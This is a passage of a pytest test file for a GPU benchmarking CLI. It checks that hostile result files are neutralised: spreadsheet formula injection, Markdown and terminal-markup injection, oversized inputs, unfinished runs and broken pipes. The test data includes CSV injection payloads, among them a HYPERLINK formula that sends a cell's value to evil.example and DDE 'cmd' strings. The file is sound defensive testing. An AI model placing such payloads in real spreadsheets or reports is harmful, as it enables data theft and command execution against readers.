"""The hostile catalogue of result files from elsewhere and of faults (issue 53: 4, 5, 7, 8,
9, 11, 13), on copies of committed result sets: strings that other formats would read as
formulas, rows, headings or mathtext; files far larger than any run writes; runs that did
not finish; echoes without end; two runs of one id; a reader that leaves; a narrow
terminal. Each case ends as it should: one line and exit 2 for bad input, the output whole
or a line saying it is not, nothing finished lost, no traceback. The held-out catalogue at
the end runs the same causes on other sets and strings.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import ROOT, in_process, slow_but
from rich.console import Console

from gpuoverhead.present import console

#: A run of the default suite with its samples (one benchmark, five jobs).
DEFAULT = ROOT / "results" / "h100" / "default"
#: A run of nine benchmarks (the recurrent step at nine sizes).
CROSSOVER = ROOT / "results" / "h100" / "crossover"
#: Another machine's run of the default suite, and another half of an A/A run.
H200 = ROOT / "results" / "h200" / "default"
NEGATIVE = ROOT / "tests" / "data" / "h100-negative-python"


def altered(folder: Path, source: Path = DEFAULT, columns: dict | None = None,
            fields: dict | None = None, samples: bool = True, rows=None) -> Path:
    """A copy of a committed set in `folder`: `columns` of its summary set (a value, or a
    function of the column), only its `rows` kept (a function of the summary), `fields` of
    its run.json set; its samples copied as they are where asked (compare and the
    wall-vs-N plot read them)."""
    shutil.copytree(source, folder, ignore=None if samples else shutil.ignore_patterns(
        "samples.*"))
    if columns or rows:
        summary = pd.read_parquet(folder / "summary.parquet")
        for name, value in (columns or {}).items():
            summary[name] = value(summary[name]) if callable(value) else value
        summary = summary[rows(summary)] if rows else summary
        summary.to_parquet(folder / "summary.parquet", index=False)
    if fields:
        info = json.loads((folder / "run.json").read_text())
        info.update(fields)
        (folder / "run.json").write_text(json.dumps(info))
    return folder


def one_clear_line(proc: subprocess.CompletedProcess, expected: str) -> None:
    assert proc.returncode == 2, (proc.returncode, proc.stderr)
    assert "Traceback" not in proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and expected in lines[0], proc.stderr


def clean(proc: subprocess.CompletedProcess) -> None:
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr


# --- 4. Result strings in other formats -------------------------------------------------

#: Text cells a spreadsheet would run as formulas (OWASP's CSV injection list, after spaces
#: and line breaks too, and the full-width forms).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "  =1+1", "\n@SUM(1)", "\uff1d1+1", "-x"]
#: Text cells that are no formula and stay as they are.
KEPT = ["-", "-2.5", "+3", "1e-05", "wgpu-native", "", "llvmpipe (LLVM 15.0.7, 256 bits)",
        "a=b"]
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would read as a formula."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            start = cell.lstrip(" \t\r\n")[:1]
            if (start in "=+-@\uff1d\uff0b\uff0d\uff20" and start or cell[:1] in ("\t", "\r")) \
                    and cell != "-" and not _NUMBER.fullmatch(cell):
                found.append(cell)
    return found


@pytest.mark.parametrize("cell", FORMULAS)
def test_hostile_csv_cell_that_starts_a_formula_is_text(cell):
    from gpuoverhead.results.write import inert

    assert inert(cell) == "'" + cell and not formula_cells(f'"{inert(cell)}"\n')


@pytest.mark.parametrize("cell", KEPT)
def test_hostile_csv_cell_that_is_no_formula_stays(cell):
    from gpuoverhead.results.write import inert

    assert inert(cell) == cell


@pytest.mark.parametrize("column", ["adapter", "implementation", "vendor"])
@pytest.mark.parametrize("output", ["report", "history", "run folder"])
def test_hostile_csv_written_holds_no_formula(tmp_path, column, output):
    """A device, implementation or vendor named `=HYPERLINK(...)` in a result set
    from elsewhere reached `report -o x.csv`, `history -o x.csv` and a run's own CSV as a
    formula (issue 53.4)."""
    payload = FORMULAS[0]
    run = altered(tmp_path / "set", columns={column: payload}, fields={"run_id": FORMULAS[3]},
                  samples=False)
    written = tmp_path / "out.csv"
    if output == "run folder":
        from gpuoverhead.results.write import write_table

        write_table(tmp_path / "set", "summary", pd.read_parquet(run / "summary.parquet"))
        written = run / "summary.csv"
    else:
        clean(in_process(output, str(run), "-o", str(written)))
    text = written.read_text()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + payload in cells and not formula_cells(text), formula_cells(text)[:3]


#: Strings that split a Markdown table's row (a pipe, one after an escaped backslash, a line
#: break), start a heading, hide the rest of a report or make a link.
MARKDOWN = ["a|b", "x\\\\|y", "x\n# Heading", "<!-- the rest is hidden",
            "[click](http://evil.example)"]


def markdown_problems(text: str) -> list[str]:
    """What a Markdown output does that its text did not ask for: a heading, a comment, a
    link, a table row with more or fewer cells than its header."""
    found = [line for line in text.splitlines() if line.startswith("#")]
    found += ["<!--"] if "<!--" in text else []
    found += re.findall(r"(?<!\\)\]\(", text)
    cells = None
    for line in text.splitlines():
        if not line.startswith("|"):
            cells = None
            continue
        count = len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))
        if cells is not None and count != cells:
            found.append(line)
        cells = count if cells is None else cells
    return found


def markdown_of(folder: Path, command: str, payload: str) -> str:
    """`command`'s Markdown of the default run (compare: against the H200's) with `payload`
    as its device's name, its run id and the name of its Dawn implementation."""
    dawn = lambda column: column.replace("dawn", payload)  # noqa: E731
    base = altered(folder / "base", columns={"adapter": payload, "implementation": dawn},
                   fields={"run_id": payload}, samples=command == "compare")
    if command == "compare":
        new = altered(folder / "new", H200, columns={"implementation": dawn})
        proc = in_process("compare", str(base), str(new), "--markdown")
        clean(proc)
        return proc.stdout
    clean(in_process(command, str(base), "-o", str(folder / "out.md")))
    return (folder / "out.md").read_text()


_PLAIN: dict[str, str] = {}


@pytest.mark.parametrize(("command", "payload"), slow_but([  # quick: report's, one of each other
    *(("report", p) for p in MARKDOWN), *(("history", p) for p in MARKDOWN),
    ("compare", MARKDOWN[0]), ("compare", MARKDOWN[1]), ("compare", MARKDOWN[3])],
    *range(len(MARKDOWN)), len(MARKDOWN), 2 * len(MARKDOWN)))
def test_hostile_markdown_keeps_its_rows(tmp_path, command, payload):
    """A `|` or a line break in a run id or device name split a Markdown report's rows or
    injected a heading (issue 53.4): the Markdown has the lines it has with a plain name,
    each table row its header's cells, and no heading, comment or link of its own."""
    if command not in _PLAIN:
        _PLAIN[command] = markdown_of(tmp_path / "plain", command, "plain")
    text = markdown_of(tmp_path / "hostile", command, payload)
    assert not markdown_problems(text), markdown_problems(text)[:3]
    assert len(text.splitlines()) == len(_PLAIN[command].splitlines())


@pytest.mark.parametrize(("output", "where"), slow_but([
    ("report -o x.html", "adapter"), ("report --plots plots", "implementation"),
    ("history -o x.png", "adapter"), ("history -o x.png", "run_id")], 0))
def test_hostile_dollars_in_a_plot_are_text(tmp_path, output, where):
    """`$\\x$` (mathtext that matplotlib cannot parse) in an adapter's or implementation's
    name or a run id crashed `report -o x.html`, `report --plots` and `history -o x.png` with
    a traceback (issue 53.4)."""
    payload = "$\\x$"
    names = {"adapter": payload, "implementation": lambda c: c.replace("dawn", payload)}
    run = altered(tmp_path / "set", columns={where: names[where]} if where in names else None,
                  fields={"run_id": payload} if where == "run_id" else None)
    command, option, name = output.split()
    clean(in_process(command, str(run), option, str(tmp_path / name)))
    assert (tmp_path / name).exists()


#: rich markup: a style, a terminal hyperlink.
MARKUP = ["[bold red]x[/bold red]", "[link=http://evil.example]click[/link]"]


@pytest.mark.parametrize("payload", MARKUP)
@pytest.mark.parametrize("where", ["report's adapter", "show's fusion implementation"])
def test_hostile_markup_in_names_is_text_on_the_terminal(monkeypatch, tmp_path, payload,
                                                         where):
    """A device or implementation named with rich markup was styled, or made a link, in
    `report`'s terminal table and the fusion grids of `show` (issue 53.4)."""
    if where.startswith("report"):
        run = altered(tmp_path / "set", columns={"adapter": "GPU" + payload}, samples=False)
    else:
        run = altered(tmp_path / "set", ROOT / "results" / "h100" / "engine",
                      columns={"implementation": lambda c: c + payload}, samples=False)
    buffer = io.StringIO()
    monkeypatch.setattr(console, "out", Console(width=250, file=buffer))
    clean(in_process(where.split("'")[0], str(run)))
    styled = re.sub(r"\[[^]]*\]", "", payload)  # what is left where markup was read as such
    assert payload in buffer.getvalue()
    assert not re.search(rf"(GPU|wgpu-native){styled}", buffer.getvalue())


# --- 5. Bounds on what is read -----------------------------------------------------------

@pytest.fixture(scope="module")
def oversized(tmp_path_factory) -> dict[str, Path]:
    """Result sets of the default run whose files pass a bound: a summary of 200,001 rows
    (as small on disk as the committed one, each row a copy of its first), of 300 columns,
    of rows whose text decodes to 300 MiB (one 1 MiB string, which Parquet keeps once), a
    run.json of 1 GiB (sparse)."""
    root = tmp_path_factory.mktemp("oversized")
    table = pq.read_table(DEFAULT / "summary.parquet")
    found = {}

    def set_with(name: str, summary: pa.Table | None = None) -> Path:
        folder = altered(root / name, samples=False)
        if summary is not None:
            pq.write_table(summary, folder / "summary.parquet", compression="zstd")
        found[name] = folder
        return folder

    set_with("rows", table.take(np.zeros(200_001, dtype=np.int64)))
    wide = table
    for i in range(300 - table.num_columns):
        wide = wide.append_column(f"extra{i}", pa.array(np.zeros(len(table))))
    set_with("columns", wide)
    rows = table.take(np.zeros(300, dtype=np.int64))
    text = pa.DictionaryArray.from_arrays(pa.array(np.zeros(300, dtype=np.int32)),
                                          pa.array(["x" * (1 << 20)]))
    set_with("decoded text", rows.set_column(rows.schema.get_field_index("estimator"),
                                             "estimator", text))
    with open(set_with("run.json") / "run.json", "r+b") as record:
        record.truncate(1 << 30)
    return found


BOUND_LINES = {"rows": "summary.parquet: 200,001 rows, more than the 200,000 a result table "
                       "is read up to (docs/schema.md)",
               "columns": "summary.parquet: 300 columns, more than the 256",
               "decoded text": "bytes decoded, more than the 268,435,456",
               "run.json": "run.json: larger than 16 MiB, the most a run record is read up to"}


@pytest.mark.parametrize("case", BOUND_LINES)
@pytest.mark.parametrize("command", ["show", "report", "history", "compare"])
def test_hostile_result_file_past_its_bound_is_one_line(oversized, case, command):
    """A 670 KB summary.parquet of 4 million rows took `show` 41 s and 9.4 GB, a 1 GiB
    run.json 2.2 GB before its error (issue 53.5): each bound is checked before the file
    is read."""
    folder = str(oversized[case])
    args = ("compare", str(DEFAULT), folder) if command == "compare" else (command, folder)
    started = time.monotonic()
    one_clear_line(in_process(*args), BOUND_LINES[case])
    assert time.monotonic() - started < 10


def test_hostile_samples_past_their_bound_are_one_line(tmp_path, monkeypatch):
    """compare reads the samples: they are bounded as the summary is (here to fewer rows
    than the committed run has, which stands for a file of more than 10 million)."""
    from gpuoverhead.results import bounded, read

    monkeypatch.setattr(read, "SAMPLES_BOUND", bounded.Bound(1 << 30, 1000, 256, 1 << 30))
    one_clear_line(in_process("compare", str(DEFAULT), str(H200)),
                   "samples.parquet: 36,333 rows, more than the 1,000")


def test_bounds_hold_every_committed_set():
    """The bounds are far above every real set: each committed one reads whole."""
    from gpuoverhead.results import read

    for record in sorted(ROOT.glob("results/**/run.json")):
        found = read.load(record.parent)
        assert len(found.summary) + len(found.per_process) > 0, record


#: run.json `settling` records of a cadence level that no run writes.
SETTLING = {
    "gap not a number": {"c/gap=zzms/x burst_per_op_ns": {}},
    "no gap's tail": {"c/gap=1ms burst_per_op_ns": {}},
    "levels not numbers": {"c/gap=1ms/x burst_per_op_ns": {
        "age_s": [0, 1], "level_us": ["a", "b"], "settled": True, "settled_s": 1}},
    "record not an object": {"c/gap=1ms/x burst_per_op_ns": [1, 2]},
    "settling not an object": "x",
}


@pytest.mark.parametrize("record", slow_but(SETTLING, 0))
def test_hostile_cadence_levels_from_elsewhere_are_one_line(tmp_path, record):
    """A run.json whose cadence levels are not as a run writes them ended `report -o
    x.html` (the cadence plot) in a traceback (issue 53.5)."""
    run = altered(tmp_path / "set")
    info = json.loads((run / "run.json").read_text())
    info["benchmarks"][0]["processes"][0]["settling"] = SETTLING[record]
    (run / "run.json").write_text(json.dumps(info))
    one_clear_line(in_process("report", str(run), "-o", str(tmp_path / "x.html")),
                   "is not as gpuoverhead writes it")


# --- 7. Runs that did not finish ----------------------------------------------------------

@pytest.fixture(scope="module", params=["running", "interrupted"])
def stopped(request, tmp_path_factory) -> Path:
    """The nine-benchmark run as `kill -9` (status `running`) or Ctrl-C (`interrupted`)
    leaves it after two benchmarks: run.json lists the nine planned, the two finished."""
    info = json.loads((CROSSOVER / "run.json").read_text())
    planned = list(dict.fromkeys(b["id"] for b in info["benchmarks"]))
    return altered(tmp_path_factory.mktemp("stopped") / "run", CROSSOVER, fields={
        "status": request.param, "finished": None, "run_id": "stopped", "planned": planned,
        "benchmarks": [b for b in info["benchmarks"] if b["id"] in planned[:2]]},
        rows=lambda summary: summary["elements"].isin([16, 64]))


@pytest.mark.parametrize("command", slow_but(["show", "report", "history", "compare",
                                              "compare --json", "compare --markdown"], 0, 3))
def test_hostile_unfinished_run_says_so(tmp_path, stopped, command):
    """`show`, `compare`, `history` and `report` of a run killed after 2 of its 9
    benchmarks read like a finished run's (issue 53.7): a line says it, and its tables are
    marked; compare gives no verdict without it."""
    words, *options = command.split()
    args = {"show": [str(stopped)], "compare": [str(CROSSOVER), str(stopped), *options],
            "report": [str(stopped), "--benchmark", "recurrent", "--elements", "16", "-o",
                       str(tmp_path / "r.md")],
            "history": [str(CROSSOVER), str(stopped), "--benchmark", "recurrent",
                        "--elements", "16"]}[words]
    proc = in_process(words, *args)
    clean(proc)
    said = "did not finish (status '"
    assert said in (proc.stdout if options == ["--json"] else proc.stderr), proc.stderr
    assert "it holds 2 of the 9 benchmarks" in proc.stderr + proc.stdout
    marked = {"show": "unfinished run", "report": said, "history": "stopped (unfinished)",
              "compare": "NEW did not finish"}[words]
    text = (tmp_path / "r.md").read_text() if words == "report" else proc.stdout
    assert marked in text or options == ["--json"], text[-2000:]


def test_finished_run_says_nothing_of_it():
    proc = in_process("show", str(CROSSOVER))
    clean(proc)
    assert "did not finish" not in proc.stderr and "unfinished" not in proc.stdout


# --- 8. Echoes without end -----------------------------------------------------------------

#: Suites whose names and keys are far longer than anything echoed should be.
LONG_SUITES = {
    "900 KB suite name": ("name: " + "x" * 900_000 + "\nbenchmarks:\n  - {name: a, kernel: "
                          "empty}\n", "name: String should have at most 100 characters"),
    "1,000-character benchmark name": ("benchmarks:\n  - {name: " + "b" * 1000 + ", kernel: "
                                       "empty}\n", "benchmarks[0].name: String should have "
                                                   "at most 100 characters"),
    "900 KB description": ("description: " + "d" * 900_000 + "\nbenchmarks:\n  - {name: a, "
                           "kernel: empty}\n", "description: String should have at most 4096"),
    "200,000-character key": ("benchmarks:\n  - name: a\n    kernel: empty\n    ? "
                              + "k" * 200_000 + "\n    : 1\n", "(200,000 characters)'; known "
                                                              "keys:"),
}


@pytest.mark.parametrize("name", LONG_SUITES)
@pytest.mark.parametrize("command", ["validate", "run"])
def test_hostile_long_name_is_refused_and_not_echoed(tmp_path, name, command):
    """A 900 KB suite name was accepted and echoed whole (issue 53.8); `validate` says the
    limit, and no line echoes more than a few dozen characters of what it quotes."""
    text, expected = LONG_SUITES[name]
    suite = tmp_path / "suite.yaml"
    suite.write_text(text)
    args = ["validate", str(suite), "--no-compile"] if command == "validate" else \
        ["run", "--suite", str(suite), "--out", str(tmp_path / "out")]
    proc = in_process(*args)
    one_clear_line(proc, expected)
    assert len(proc.stderr) < 1000 and not (tmp_path / "out").exists()


@pytest.fixture(scope="module")
def many(tmp_path_factory) -> Path:
    """40 copies of one run (one run counted once: a line names its folders) and 40 runs
    without the empty kernel (each left out: a line each), in one folder."""
    root = tmp_path_factory.mktemp("many")
    altered(root / "copy-00", samples=False)
    for i in range(1, 40):
        shutil.copytree(root / "copy-00", root / f"copy-{i:02d}")
    altered(root / "other-00", ROOT / "results" / "h200" / "decode", samples=False)
    for i in range(1, 40):
        altered(root / f"other-{i:02d}", ROOT / "results" / "h200" / "decode",
                fields={"run_id": f"other-{i}"}, samples=False)
    return root


@pytest.mark.parametrize("command", slow_but(["report", "history"], 0))
def test_hostile_warnings_list_a_few_and_say_how_many_more(many, command):
    """One warning line listing 2,000 folders was 56,067 characters (issue 53.8)."""
    proc = in_process(command, str(many))
    clean(proc)
    lines = proc.stderr.strip().splitlines()
    assert len(lines) <= 12 and max(map(len, lines)) < 600, (len(lines), max(map(len, lines)))
    assert "is in 40 folders" in proc.stderr and "and 35 more): counted once" in proc.stderr
    assert "and 35 more runs left out of 'empty' at 1 elements" in proc.stderr


def test_hostile_history_of_many_runs_labels_a_few(tmp_path):
    """`history` over 2,000 runs drew 2,000 overlapping tick labels (issue 53.8): at most 30
    runs are labelled, and the terminal's tables show the last 50 (the files hold all)."""
    from gpuoverhead.present import history as past
    from gpuoverhead.present.plots import plt

    runs = 500
    points = pd.DataFrame({
        "figure": "naive", "vendor": "v", "adapter": "a", "backend": "b",
        "implementation": "wgpu-native", "position": range(runs),
        "run": [f"run-{i}" for i in range(runs)], "started": "2026-11-29T00:00:00",
        "status": "complete", "value": 1e5, "low": 9e4, "high": 1.1e5, "level": 0.95})
    made = past.History("empty", 1, [past.Figure("naive", "latency_ns", "naive", None)], points)
    fig = past.plot(made)
    try:
        labels = [t.get_text() for t in fig.axes[0].get_xticklabels() if t.get_text()]
    finally:
        plt.close(fig)
    assert 0 < len(labels) <= 30 and labels[0].startswith("run-0\n")
    assert len(past.frames(made)["naive"]) == runs


# --- 9. Two runs of one id ---------------------------------------------------------------

def _record():
    from gpuoverhead.results.columns import RunRecord

    return RunRecord(run_id="same", argv=[], suite={}, seed=1, started="now", host={},
                     packages={}, native={})


@pytest.mark.parametrize("first", [False, True], ids=["first plain", "first forced"])
@pytest.mark.parametrize("second", [False, True], ids=["second plain", "second forced"])
def test_hostile_second_run_of_one_id_is_refused_while_the_first_runs(tmp_path, first,
                                                                       second):
    """Two runs with the same --run-id started together both said "complete" and one's
    results were gone (issue 53.9): the run folder is claimed, and a second claim while the
    first is held is one line; once the first has ended its id is free."""
    from gpuoverhead.errors import UserError
    from gpuoverhead.run.files import RunFolder

    held = RunFolder.open(tmp_path / "same", _record(), force=first)
    with pytest.raises(UserError, match="another run with this --run-id is writing it now"):
        RunFolder.open(tmp_path / "same", _record(), force=second)
    held.save("complete")
    held.release()
    if second:
        again = RunFolder.open(tmp_path / "same", _record(), force=True)
        again.abandon()  # it stopped before it had a benchmark: the old run stays
        again.release()
    else:
        with pytest.raises(UserError, match="already exists; choose another --run-id"):
            RunFolder.open(tmp_path / "same", _record(), force=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["same"]


def test_hostile_claim_of_a_killed_run_is_free(tmp_path):
    """A run killed with `kill -9` holds its id no longer: the system lets go of its lock,
    and the next run of that id (--force) takes it, the lock file left behind included."""
    from gpuoverhead.errors import UserError
    from gpuoverhead.run.files import RunFolder

    code = textwrap.dedent(f"""
        import pathlib, time
        from gpuoverhead.results.columns import RunRecord
        from gpuoverhead.run.files import RunFolder
        RunFolder.open(pathlib.Path({str(tmp_path / 'same')!r}), RunRecord(
            run_id="same", argv=[], suite={{}}, seed=1, started="now", host={{}},
            packages={{}}, native={{}}), False)
        print("held", flush=True)
        time.sleep(60)
    """)
    holder = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True,
                              cwd=ROOT)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(UserError, match="another run with this --run-id"):
            RunFolder.open(tmp_path / "same", _record(), force=True)
    finally:
        holder.kill()  # SIGKILL: the run ends with no word
        holder.wait(timeout=30)
    assert (tmp_path / ".same.lock").exists()  # what the killed run left
    RunFolder.open(tmp_path / "same", _record(), force=True).release()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["same"]


# --- 11. A reader that leaves, a memory limit -----------------------------------------------

def _child(*args: str, read: int = 0) -> subprocess.CompletedProcess:
    """The CLI in a child process whose stdout's reader reads `read` bytes, then leaves."""
    proc = subprocess.Popen([sys.executable, "-m", "gpuoverhead", *args], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    if read:
        proc.stdout.read(read)
    proc.stdout.close()
    err = proc.stderr.read()
    return subprocess.CompletedProcess(args, proc.wait(timeout=120), "", err)


SELFTEST = ROOT / "results" / "h200" / "regimes-check" / "selftest"


@pytest.mark.slow
@pytest.mark.parametrize(("args", "read"), [
    (("compare", str(SELFTEST / "a"), str(SELFTEST / "b"), "--json"), 100),  # 133 KB
    (("show", str(ROOT / "results" / "h200" / "processes-10")), 0),
], ids=["compare --json, 100 bytes read", "show"])
def test_hostile_reader_that_leaves_is_one_line(args, read):
    """`compare --json | head -c 100` printed part of its output and exited 0, without a
    word (issue 53.11: CPython drops the rest of a large write to a closed pipe)."""
    proc = _child(*args, read=read)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert proc.stderr.strip().splitlines()[-1] == (
        "error: cannot write the output: its reader closed it (a broken pipe); what came "
        "before is all there is")


@pytest.mark.parametrize("limited", [True, False], ids=["under ulimit -v", "without a limit"])
def test_hostile_system_error_is_out_of_memory_under_a_limit(limited):
    """Under `ulimit -v` 300 MiB importing pandas at times raised `SystemError: error
    return without exception set`: a traceback, exit 1 (issue 53.11). Under a limit it is
    out of memory, one line, exit 2; without one it is a fault, and its traceback shows."""
    limit = "import resource; resource.setrlimit(resource.RLIMIT_AS, (16 << 30, 16 << 30))\n"
    code = (limit if limited else "") + textwrap.dedent("""
        from gpuoverhead import cli
        def imports():
            raise SystemError("error return without exception set")
        cli.app = imports
        cli.main()
    """)
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          cwd=ROOT, timeout=60)
    if limited:
        one_clear_line(proc, "error: out of memory: error return without exception set")
    else:
        assert proc.returncode == 1 and "Traceback" in proc.stderr


# --- 13. Tables on a narrow terminal -------------------------------------------------------

_NUMBERS = re.compile(r"\d[\d,.]*(?:x|%)?(?:[–-]\d[\d,.]*x?)?")
NARROW = {
    "show": ("show", str(ROOT / "results" / "h200" / "regimes-check" / "selftest-b2b" / "a")),
    "show fusion": ("show", str(ROOT / "results" / "h100" / "engine")),
    "report": ("report", str(DEFAULT), str(H200)),
    "history": ("history", str(ROOT / "results" / "h200")),
    "compare": ("compare", str(DEFAULT), str(H200)),
}


#: The terminals' widths of the narrow tests: the widest, the quick loop's, the narrowest.
WIDTHS = (250, 80, 30)
_PRINTED: dict[tuple[tuple[str, ...], int], str] = {}
_PRINT_TABLE = console.print_table


class _Terminals:
    """console.out's stand-in: every line printed on each of several terminals."""

    def __init__(self, widths: tuple[int, ...]) -> None:
        self.each = {width: Console(width=width, file=io.StringIO()) for width in widths}

    def print(self, *args, **kwargs) -> None:
        for terminal in self.each.values():
            terminal.print(*args, **kwargs)

    def print_table(self, table, optional: tuple[str, ...] = (), to: Console | None = None
                    ) -> None:
        """console.print_table's stand-in: the table fitted to each terminal on its own."""
        for terminal in [to] if to else self.each.values():
            _PRINT_TABLE(table, optional, terminal)


def _printed(monkeypatch, args: tuple[str, ...], width: int, widths: tuple[int, ...] = ()
             ) -> str:
    """What a command prints on a terminal `width` columns wide; run once for that and
    `widths` (each table fitted to each terminal by console.print_table, as on its own),
    each kept."""
    if (args, width) not in _PRINTED:
        terminals = _Terminals(tuple(dict.fromkeys((width, *widths))))
        monkeypatch.setattr(console, "out", terminals)
        monkeypatch.setattr(console, "print_table", terminals.print_table)
        clean(in_process(*args))
        _PRINTED.update({(args, w): one.file.getvalue() for w, one in terminals.each.items()})
    return _PRINTED[args, width]


@pytest.mark.parametrize("width", slow_but([80, 30], 1))  # 80: the quick loop's below
@pytest.mark.parametrize("name", NARROW)
def test_hostile_narrow_terminal_cuts_no_number(monkeypatch, name, width):
    """At 80 columns interval upper bounds were cut (`206.2–249…`), at 30 every number was
    `…` (issue 53.13): every number a wide terminal shows is shown whole, and no line is
    wider than the terminal."""
    wide = _printed(monkeypatch, NARROW[name], 250, WIDTHS)
    narrow = _printed(monkeypatch, NARROW[name], width, WIDTHS)
    assert "…" not in narrow
    assert max(map(len, narrow.splitlines())) <= width
    expected = set(_NUMBERS.findall(wide))
    if "(left out to fit" in narrow:  # columns said to be left out: rounds, bound, ±, p
        expected = {n for n in expected if "." in n and not n.endswith("%")}
    assert expected <= set(_NUMBERS.findall(narrow))


def test_hostile_narrow_summary_leaves_out_columns_and_says_which(monkeypatch):
    narrow = _printed(monkeypatch, NARROW["show"], 80, WIDTHS)
    assert "(left out to fit 80 columns: rounds)" in narrow and "each row as a list" not in narrow


# --- The grids and lines that came with the regimes and the browser's tax ------------------

def _new_grids_summary(name: str) -> pd.DataFrame:
    """A summary that fills the cadence grid, the browser tax and split grids and the decode
    token parts grid (seeded values), every implementation named `name`."""
    rng = np.random.default_rng(53)
    cell = {"process": np.nan, "ci_level": 0.95, "elements": 896, "k": 128, "call": "",
            "implementation": name, "benchmark": "decode", "encoding": "dispatch",
            "family": "decode"}
    rows = [{**cell, "methodology": "cadence", "benchmark": "burst", "layer": "wrapper",
             "case": f"burst/gap={gap}ms/submit", "metric": "burst_per_op_ns",
             "sync": "wait", "variant": "", "settled_s": settled}
            for gap, settled in (("0", 3.2), ("16", np.inf))]
    rows += [{**cell, "methodology": "fusion", "variant": "fused", "sync": "timestamps",
              "metric": m} for m in ("gpu_ns", "read_floor_ns", "dispatch_gpu_ns",
                                     "kernel_excess_ns")]
    rows += [{**cell, "methodology": "fusion", "variant": v, "sync": s, "metric": m,
              "call": "wgpu-native" if m.startswith("browser") else ""}
             for v in ("unfused", "fused")
             for s, m in (("wait", "browser_tax"), ("wait", "browser_tax_synced"),
                          ("timestamps", "browser_tax_gpu"), ("wait", "per_unit_ns"),
                          ("wait", "cpu_per_unit_ns"), ("wait", "wait_per_unit_ns"),
                          ("wait", "latency_ns"), ("wait", "completion_floor_ns"))]
    frame = pd.DataFrame(rows)
    value = rng.uniform(1e5, 3e6, len(frame))
    ratio = frame["metric"].str.startswith("browser_tax")
    frame["value"] = np.where(ratio, rng.uniform(0.5, 3.0, len(frame)), value)
    frame["ci_low"], frame["ci_high"] = 0.83 * frame["value"], 1.27 * frame["value"]
    return frame


#: The grids' titles, and what each shows a number of.
NEW_GRIDS = {"cadence": "What one op costs at a cadence", "browser tax": "Browser tax",
             "browser split": "wall = issue + GPU + wait",
             "token parts": "Decode GPU time a token taken apart"}


def _grids_printed(monkeypatch, name: str, width: int) -> str:
    buffer = io.StringIO()
    monkeypatch.setattr(console, "out", Console(width=width, file=buffer))
    console.print_summary(_new_grids_summary(name), "unfinished run (status 'running')")
    return buffer.getvalue()


@pytest.mark.parametrize("payload", MARKUP)
@pytest.mark.parametrize("grid", NEW_GRIDS)
def test_hostile_markup_in_the_new_grids_is_text(monkeypatch, grid, payload):
    """The cadence, browser split and token parts grids printed an implementation's name
    as rich markup (a style, a link), as the fusion grids did (issue 53.4)."""
    printed = _grids_printed(monkeypatch, "wgpu" + payload, 1000)
    start = printed.index(NEW_GRIDS[grid])
    ends = [i for title in NEW_GRIDS.values() if (i := printed.find(title, start + 1)) > start]
    shown = printed[start:min(ends, default=len(printed))]  # this grid alone
    assert "wgpu" + payload in shown
    styled = re.sub(r"\[[^]]*\]", "", payload)  # what is left where markup was read as such
    assert f"wgpu{styled}" not in printed


@pytest.mark.parametrize("width", [80, 30])
def test_hostile_narrow_terminal_cuts_no_number_of_the_new_grids(monkeypatch, width):
    """The new grids on a narrow terminal: no number cut, no line wider than it, each grid
    marked as an unfinished run's (issue 53.7, 53.13)."""
    wide = _grids_printed(monkeypatch, "wgpu-native", 250)
    narrow = _grids_printed(monkeypatch, "wgpu-native", width)
    assert "…" not in narrow and max(map(len, narrow.splitlines())) <= width
    assert all(title.split()[0] in narrow for title in NEW_GRIDS.values())
    assert narrow.count("unfinished run") >= len(NEW_GRIDS) - (width == 30)
    expected = set(_NUMBERS.findall(wide))
    if "(left out to fit" in narrow:
        expected = {n for n in expected if "." in n and not n.endswith("%")}
    assert expected <= set(_NUMBERS.findall(narrow))


def _environment_changed(info: dict, payload: str) -> dict:
    """run.json's fields with every adapter's driver and 2,000 packages' versions set."""
    adapters = [{**a, "driver": payload} for a in info["adapters"]]
    packages = {f"package{i}": f"{payload[:20]}{i}" for i in range(2000)}
    return {"adapters": adapters, "packages": packages}


@pytest.mark.parametrize("payload", [*MARKUP, "x" * 200_000 + "[/]"],
                         ids=["markup style", "markup link", "200 KB driver"])
def test_hostile_environment_differences_are_bounded_text(tmp_path, payload):
    """`compare`'s lines on how two runs' environments differ echoed a driver string whole
    (200 KB on one line) and listed every package that moved (issue 53.8); each line now
    says at most a few hundred characters and "and N more", its markup as text (53.4)."""
    info = json.loads((DEFAULT / "run.json").read_text())
    base = altered(tmp_path / "base", fields=_environment_changed(info, "1.0"))
    new = altered(tmp_path / "new", fields=_environment_changed(info, payload))
    proc = in_process("compare", str(base), str(new))
    clean(proc)
    lines = [line for line in proc.stderr.splitlines() if "the runs differ in" in line]
    assert lines and max(map(len, proc.stderr.splitlines())) < 1000, proc.stderr[:2000]
    assert any("and 1,980 more" in line for line in lines)
    if payload in MARKUP:
        assert payload in proc.stderr


# --- The held-out catalogue: the same causes, other sets and strings ------------------------

HELD_OUT_SETS = {"h200": H200, "negative python": NEGATIVE}
HELD_OUT = {
    "formula vendor, csv report": ("csv", {"vendor": "@cmd|'/c notepad'!Z1"}, {}),
    "formula run id, csv history": ("csv history", {}, {"run_id": "=1+2"}),
    "tab formula backend, csv": ("csv", {"backend": "\t+1"}, {}),
